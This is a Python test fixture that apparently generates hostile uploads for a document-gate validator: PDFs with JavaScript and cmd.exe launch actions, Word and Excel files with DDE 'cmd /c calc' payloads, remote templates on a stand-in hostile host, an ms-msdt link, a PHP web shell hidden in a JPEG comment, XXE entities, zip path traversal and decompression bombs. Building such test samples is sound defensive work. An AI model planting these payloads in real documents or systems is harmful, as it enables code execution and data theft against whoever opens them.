"""Files that must not get in, each with one thing wrong with it: (name, content)."""

import zipfile
import zlib
from collections.abc import Iterator
from io import BytesIO
from typing import Any

import pikepdf
from pikepdf import Array, Dictionary, Name, Stream, String

from tests.grants.documents.gate.makers import (
    HEAD,
    action,
    chunk,
    docx,
    docx_parts,
    field,
    javascript,
    jpeg,
    new_pdf,
    opendocument,
    pdf_bytes,
    pdf_with,
    pdf_with_annotation,
    png,
    relations,
    segment,
    with_parts,
    xlsx,
    zipped,
)

OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 600
MACRO_TYPE = (
    '<Override PartName="/word/document.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>'
)
DOCTYPE = '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x "lol">]>'
RELS = "word/_rels/document.xml.rels"


def hostile_files() -> Iterator[tuple[str, str, bytes]]:
    """What it is, the name it comes with, and the file."""
    yield from _not_what_they_say()
    yield from _pdf()
    yield from _word()
    yield from _excel()
    yield from _opendocument()
    yield from _packages()
    yield from _pictures()


def _not_what_they_say() -> Iterator[tuple[str, str, bytes]]:
    yield "nothing at all", "tom.pdf", b""
    yield "a program called PDF", "faktura.pdf", b"MZ" + b"\x00" * 3000
    yield "a web page called PDF", "side.pdf", b"<html><script>alert(1)</script></html>"
    yield "a program by its own name", "faktura.pdf.exe", b"MZ" + b"\x00" * 3000
    yield (
        "a drawing with script",
        "bilde.svg",
        b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
    )
    yield "a web page by its own name", "side.html", b"<html></html>"
    yield "an old Word document", "gammel.doc", OLE
    yield "an old Word document called docx", "gammel.docx", OLE
    yield "a package by its own name", "pakke.zip", zipped({"a.txt": "a"})
    yield "a package called docx", "pakke.docx", zipped({"a.txt": "a"})
    yield "a workbook called docx", "bok.docx", xlsx()
    yield "a Word document called xlsx", "dok.xlsx", docx()
    yield "a text document called ods", "ark.ods", opendocument("text")
    yield "a picture called PDF", "bilde.pdf", png()
    yield "a PDF called picture", "bilde.png", pdf_with()
    yield "a macro document by its own name", "makro.docm", docx()
    yield "a name without a kind", "søknad", pdf_with()


def _pdf() -> Iterator[tuple[str, str, bytes]]:
    def pdf(what: str, content: bytes) -> tuple[str, str, bytes]:
        return what, "fil.pdf", content

    yield pdf("script when it opens, written directly", pdf_with(OpenAction=javascript()))
    yield pdf("script when it opens, packed in an object stream", pdf_with(packed=True, OpenAction=javascript()))
    yield pdf("a bare script when it opens", pdf_with(OpenAction=Dictionary(JS=String("x"))))
    yield pdf("a program when it opens", pdf_with(OpenAction=action("Launch", F=String("cmd.exe"))))
    yield pdf("an address when it opens", pdf_with(OpenAction=action("URI", URI=String("https://ond.example"))))
    yield pdf("a chain of actions", pdf_with(OpenAction=action("GoTo", D=Array([0, Name.Fit]), Next=javascript())))
    yield pdf("actions by the document", pdf_with(AA=Dictionary(WC=javascript())))
    yield pdf("actions by the document, without script", pdf_with(AA=Dictionary(O=action("Named", N=Name.Print))))
    yield pdf(
        "script by name", pdf_with(Names=Dictionary(JavaScript=Dictionary(Names=Array([String("a"), javascript()]))))
    )
    yield pdf("a form in XML (XFA)", pdf_with(AcroForm=Dictionary(Fields=Array(), XFA=String("<xdp/>"))))
    yield pdf("script behind a link", pdf_with_annotation(Subtype=Name.Link, A=javascript()))
    yield pdf("a program behind a link", pdf_with_annotation(Subtype=Name.Link, A=action("Launch", F=String("a.exe"))))
    yield pdf("sending a form", pdf_with_annotation(Subtype=Name.Link, A=action("SubmitForm", F=String("https://a"))))
    yield pdf(
        "script behind an address", pdf_with_annotation(Subtype=Name.Link, A=action("URI", URI=String("javascript:a")))
    )
    yield pdf(
        "a file share behind an address",
        pdf_with_annotation(Subtype=Name.Link, A=action("URI", URI=String("\\\\ond\\a"))),
    )
    yield pdf(
        "another PDF on a share", pdf_with_annotation(Subtype=Name.Link, A=action("GoToR", F=String("\\\\ond\\a.pdf")))
    )
    yield pdf("a film", pdf_with_annotation(Subtype=Name.Movie))
    yield pdf(
        "rich media", pdf_with_annotation(Subtype=Name.RichMedia, RichMediaContent=Dictionary(Assets=Dictionary(a=1)))
    )
    yield pdf("a space in three dimensions", pdf_with_annotation(Subtype=Name("/3D")))
    attached = new_pdf()
    attached.attachments["skjult.exe"] = b"MZ" + b"\x00" * 100
    yield pdf("an attached program", pdf_bytes(attached))
    pinned = new_pdf()
    file = Dictionary(Type=Name.Filespec, F=String("a.txt"), EF=Dictionary(F=Stream(pinned, b"x")))
    pinned.pages[0].obj.Annots = Array(
        [Dictionary(Type=Name.Annot, Subtype=Name.FileAttachment, Rect=[0, 0, 1, 1], FS=file)]
    )
    yield pdf("a file pinned to a page", pdf_bytes(pinned))
    outside = new_pdf()
    outside.pages[0].obj.Contents = Stream(outside, b"", F=String("\\\\ond\\a"))
    yield pdf("a stream that lies in another file", pdf_bytes(outside))
    for what, permission in (("a password", "hemmelig"), ("a lock without a password", "")):
        yield pdf(what, pdf_bytes(new_pdf(), encryption=pikepdf.Encryption(owner="eier", user=permission, R=6)))
    older = pdf_with(OpenAction=javascript())
    yield pdf("script in an older version", older + b"\n" + older.replace(b"/JavaScript", b"/GoTo      ")[8:])
    whole = pdf_with()
    yield pdf("half a PDF", whole[: len(whole) // 2])
    yield pdf("a PDF with a package behind it", whole + zipped({"a.exe": b"MZ"}))
    yield pdf("a package that ends as a PDF does", whole + zipped({"a.exe": b"MZ"})[:-2] + b"\x06\x00%%EOF\n")
    yield pdf("a PDF that begins as a web page", whole[:9] + b"%<html><script>alert(1)</script>\n" + whole[9:])
    yield pdf("no pages", pdf_bytes(pikepdf.new()))
    yield pdf("only the first line", b"%PDF-1.7\n%%EOF\n")
    bomb = new_pdf()
    packed = zlib.compress(b" " * (160 * 1024 * 1024), 1)
    bomb.pages[0].obj.Contents = Stream(bomb, packed, Filter=Name.FlateDecode)
    yield pdf("a stream of 160 MB in less than one", pdf_bytes(bomb))
    hidden = pdf_with(OpenAction=javascript()).replace(b"/JavaScript", b"/J#61vaScript")
    yield pdf("script under a disguised name", hidden)
    deep: Any = javascript()
    for _level in range(40):
        deep = Array([Dictionary(Inner=deep)])
    yield pdf("script forty levels down", pdf_with(PieceInfo=Dictionary(Deep=deep)))


def _word() -> Iterator[tuple[str, str, bytes]]:
    def word(what: str, content: bytes) -> tuple[str, str, bytes]:
        return what, "dok.docx", content

    def related(what: str, kind: str, target: str, mode: str = "External") -> tuple[str, str, bytes]:
        return word(what, docx(**{RELS: relations((kind, target, mode))}))

    yield word("macros", docx(**{"word/vbaProject.bin": OLE}))
    yield word("macros under another name", docx(**{"word/innstillinger.bin": OLE}))
    yield word("a type with macros", docx(types=MACRO_TYPE))
    yield word("an embedded object", docx(**{"word/embeddings/oleObject1.bin": OLE}))
    yield word("an embedded program", docx(**{"word/media/image1.png": b"MZ" + b"\x00" * 99}))
    yield word("an embedded package", docx(**{"word/media/image1.png": zipped({"a.exe": "x"})}))
    yield word("a control", docx(**{"word/activeX/activeX1.xml": f"{HEAD}<ax/>"}))
    yield word("a web page as part", docx(**{"word/afchunk.html": "<script>alert(1)</script>"}))
    yield related("a template on the web", "attachedTemplate", "https://ond.example/mal.dotm")
    yield related("a template on a share", "attachedTemplate", "file://ond/deling/mal.dotm")
    yield related("a template on a share, written as Windows does", "attachedTemplate", "\\\\ond\\deling\\mal.dotm")
    yield related(
        "an object on the web", "oleObject", "mhtml:http://ond.example/a.html!x-usc:http://ond.example/a.html"
    )
    yield related("a picture on the web", "image", "https://ond.example/sporing.png")
    yield related("a frame on the web", "frame", "https://ond.example/")
    yield related("a link that runs script", "hyperlink", "javascript:alert(1)")
    yield related("a link that starts a program", "hyperlink", "ms-msdt:/id PCWDiagnostic")
    yield related("a link to a share", "hyperlink", "file://ond/deling/a.exe")
    yield related("a part of another kind of text", "aFChunk", "afchunk.xml", "")
    yield word("DDE", docx(body=field('DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc"')))
    yield word("DDE in pieces", docx(body=field('DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc"', pieces=9)))
    yield word("DDE in letters by number", docx(body=field("QUOTE 68 68 69 65 85 84 79")))
    yield word("DDE written in figures", docx(body=field("&#68;&#68;&#x45;AUTO cmd.exe")))
    yield word("DDE with a remark in the middle", docx(body=field("DD<!-- -->EAU<?a b?>TO cmd.exe")))
    yield word("DDE where nobody writes text", docx(body=field("<![CDATA[DDEAUTO cmd.exe]]>")))
    yield word("DDE in a simple field", docx(body='<w:p><w:fldSimple w:instr="DDE cmd x"/></w:p>'))
    yield word("text from the web", docx(body=field("INCLUDETEXT https://ond.example/a.docx")))
    yield word("an entity in Word", docx(**{"word/document.xml": DOCTYPE + "<a>&x;</a>"}))
    yield word(
        "an entity in another encoding", docx(**{"word/document.xml": (DOCTYPE + "<a>&x;</a>").encode("utf-16")})
    )
    yield word(
        "an encoding that hides", docx(**{"word/document.xml": '<?xml version="1.0" encoding="iso-8859-1"?><a/>'})
    )
    yield word("XML that is none", docx(**{"word/document.xml": "<a><b></a>"}))
    yield word(
        "a document with a drawing with script", docx(**{"word/media/a.svg": "<svg><script>alert(1)</script></svg>"})
    )
    parts = docx_parts()
    del parts["[Content_Types].xml"]
    yield word("no list of its parts", zipped(parts))


def _excel() -> Iterator[tuple[str, str, bytes]]:
    def excel(what: str, **parts: bytes | str) -> tuple[str, str, bytes]:
        return what, "bok.xlsx", with_parts(xlsx(), parts)

    sheet = '<worksheet xmlns="http://a"><sheetData><row><c><f>{}</f></c></row></sheetData></worksheet>'
    yield excel("macros in Excel", **{"xl/vbaProject.bin": OLE})
    yield excel("macros of the oldest kind", **{"xl/macrosheets/sheet1.xml": f"{HEAD}<a/>"})
    yield excel("a link to another workbook", **{
        "xl/externalLinks/externalLink1.xml": f'{HEAD}<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>',
    })  # fmt: skip
    yield excel("DDE as a formula", **{"xl/worksheets/sheet1.xml": sheet.format("cmd|'/c calc'!A1")})
    yield excel("DDE as a formula, disguised", **{"xl/worksheets/sheet1.xml": sheet.format("cmd&#124;'/c calc'!A1")})
    yield excel("a formula that asks the web", **{"xl/worksheets/sheet1.xml": sheet.format('WEBSERVICE("http://a")')})
    yield excel("a query to a database", **{
        "xl/_rels/workbook.xml.rels": relations(("connections", "connections.xml", "")),
    })  # fmt: skip
    yield (
        "a workbook in a workbook in a workbook",
        "bok.xlsx",
        with_parts(xlsx(), {"xl/embeddings/a.xlsx": with_parts(xlsx(), {"xl/embeddings/b.xlsx": xlsx()})}),
    )
    yield (
        "macros in the workbook behind a chart",
        "dok.docx",
        docx(**{"word/embeddings/a.xlsx": with_parts(xlsx(), {"xl/vbaProject.bin": OLE})}),
    )


def _opendocument() -> Iterator[tuple[str, str, bytes]]:
    def text(what: str, body: str = "", **more: Any) -> tuple[str, str, bytes]:
        return what, "dok.odt", opendocument("text", body, **more)

    yield text("macros in OpenDocument", **{"Basic/Standard/Module1.xml": f"{HEAD}<a/>"})
    yield text("a script", **{"Scripts/python/a.py": "import os"})
    yield text("something that listens", '<script:event-listener xlink:href="vnd.sun.star.script:a.b?language=Basic"/>')
    yield text("an embedded object in OpenDocument", '<draw:object-ole xlink:href="./Object 1"/>')
    yield text(
        "an embedded object, by the list",
        manifest='<a:b a:media-type="application/vnd.sun.star.oleobject" xmlns:a="a"/>',
    )
    yield text("a picture on the web in OpenDocument", '<draw:image xlink:href="https://ond.example/a.png"/>')
    yield text("a picture on a share", '<draw:image xlink:href="//ond/a.png"/>')
    yield text("a picture outside the package", '<draw:image xlink:href="../../a.png"/>')
    yield text(
        "a link in OpenDocument that runs script",
        '<text:p><text:a xlink:href="javascript:alert(1)">a</text:a></text:p>',
    )
    yield text("a link that starts a macro", '<text:p><text:a xlink:href="vnd.sun.star.script:a">a</text:a></text:p>')
    yield text("a frame", '<draw:floating-frame xlink:href="https://ond.example"/>')
    yield text("a program", '<draw:plugin xlink:href="./a"/>')
    yield text(
        "text from another file",
        '<text:section text:name="a"><text:section-source xlink:href="file:///a.odt"/></text:section>',
    )
    yield text("a document with a password", manifest='<m:encryption-data xmlns:m="a"/>')
    yield text("a program as part", **{"Pictures/a.png": b"MZ" + b"\x00" * 99})
    yield text("an entity", **{"content.xml": DOCTYPE + "<a>&x;</a>"})
    yield (
        "DDE in a sheet",
        "ark.ods",
        opendocument("spreadsheet", '<table:table-cell table:formula="of:=DDE(&quot;cmd&quot;)"/>'),
    )
    yield "a sheet from the web", "ark.ods", opendocument("spreadsheet", '<table:table-source xlink:href="http://a"/>')
    parts = {
        "content.xml": f"{HEAD}<a/>",
        "mimetype": "application/vnd.oasis.opendocument.text",
        "META-INF/manifest.xml": "<a/>",
    }
    yield "a kind that stands last", "dok.odt", zipped(parts)


def _packages() -> Iterator[tuple[str, str, bytes]]:
    def package(what: str, content: bytes) -> tuple[str, str, bytes]:
        return what, "dok.docx", content

    yield package("a bomb of one part", docx(**{"word/a.xml": b"<a>" + b" " * (60 * 1024 * 1024) + b"</a>"}))
    yield package(
        "a bomb of many parts",
        docx(**{f"word/a{n}.xml": b"<a>" + b" " * (1024 * 1024 - 9) + b"</a>" for n in range(120)}),
    )
    yield package(
        "a part that unpacks a thousandfold", docx(**{"word/a.xml": b"<a>" + b" " * (5 * 1024 * 1024) + b"</a>"})
    )
    yield package("a package in a package", docx(**{"word/inne.zip": zipped({"a": b"0" * 999})}))
    yield package("20 000 parts", docx(**{f"word/a{n}.xml": b"<a/>" for n in range(20_000)}))
    for name in (
        "../../etc/passwd.xml",
        "/etc/passwd.xml",
        "..\\a.xml",
        "C:/a.xml",
        "word/../../a.xml",
        "word/a\x07.xml",
    ):
        yield package(f"a part called {name!r}", docx(**{name: f"{HEAD}<a/>"}))
    yield package("two parts of the same name", _twice())
    yield package("a package behind a web page", b"<html></html>" + docx())
    yield package("a package with a web page behind it", docx() + b"<script>alert(1)</script>")
    yield package("a package with a remark", _with_remark())
    yield package("a part that is larger than its list says", _lying())
    yield package("half a package", docx()[:600])
    yield package("a symbolic link", _link())
    yield package("a part with a password", _locked())


def _pictures() -> Iterator[tuple[str, str, bytes]]:
    yield "a flood of pixels", "flom.png", png(50_000, 50_000, rows=1)
    yield "a flood of pixels by one side", "flom.png", png(1, 200_000, rows=1)
    yield "a flood of pixels, JPEG", "flom.jpg", jpeg(65_000, 65_000)
    yield "a picture without size", "null.jpg", jpeg(0, 0)
    yield "half a picture", "halv.png", png(900, 900)[:-30]
    yield "half a picture, JPEG", "halv.jpg", jpeg()[:-2]
    yield "a picture with a package behind it", "to.png", png() + zipped({"a.exe": b"MZ"})
    yield "a picture with a web page behind it", "to.jpg", jpeg() + b"<script>alert(1)</script>"
    yield (
        "a picture with script in a remark",
        "to.png",
        png(more=chunk(b"tEXt", b"Comment\x00<script>alert(1)</script>")),
    )
    yield "a picture with PHP in a remark", "to.jpg", jpeg(more=segment(0xFE, b"<?php system($_GET['c']); ?>"))
    yield "a picture with a package in a remark", "to.jpg", jpeg(more=segment(0xE5, zipped({"a": b"MZ"})))
    yield "a picture whose checksum is wrong", "feil.png", png().replace(b"IDAT", b"IDAX", 1)
    yield "only the first bytes", "kort.png", png()[:8]
    yield "only the first bytes, JPEG", "kort.jpg", jpeg()[:4]


def _twice() -> bytes:
    buffer = BytesIO(docx())
    with zipfile.ZipFile(buffer, "a") as package:
        package.writestr("word/Document.xml", f"{HEAD}<a/>")
    return buffer.getvalue()


def _with_remark() -> bytes:
    buffer = BytesIO(docx())
    with zipfile.ZipFile(buffer, "a") as package:
        package.comment = b"<script>alert(1)</script>"
    return buffer.getvalue()


def _lying() -> bytes:
    """The list says one byte; the part is much larger."""
    content = bytearray(docx(**{"word/media/a.png": png(400, 400)}))
    at = content.rindex(b"word/media/a.png") - 46
    content[at + 24 : at + 28] = (1).to_bytes(4, "little")
    return bytes(content)


def _link() -> bytes:
    buffer = BytesIO(docx())
    with zipfile.ZipFile(buffer, "a") as package:
        link = zipfile.ZipInfo("word/lenke.xml")
        link.create_system, link.external_attr = 3, 0o120777 << 16
        package.writestr(link, "/etc/passwd")
    return buffer.getvalue()


def _locked() -> bytes:
    """The flag of encryption on the first part, both where it stands and in the list."""
    content = bytearray(docx())
    content[6] |= 1
    content[content.index(b"PK\x01\x02") + 8] |= 1
    return bytes(content)
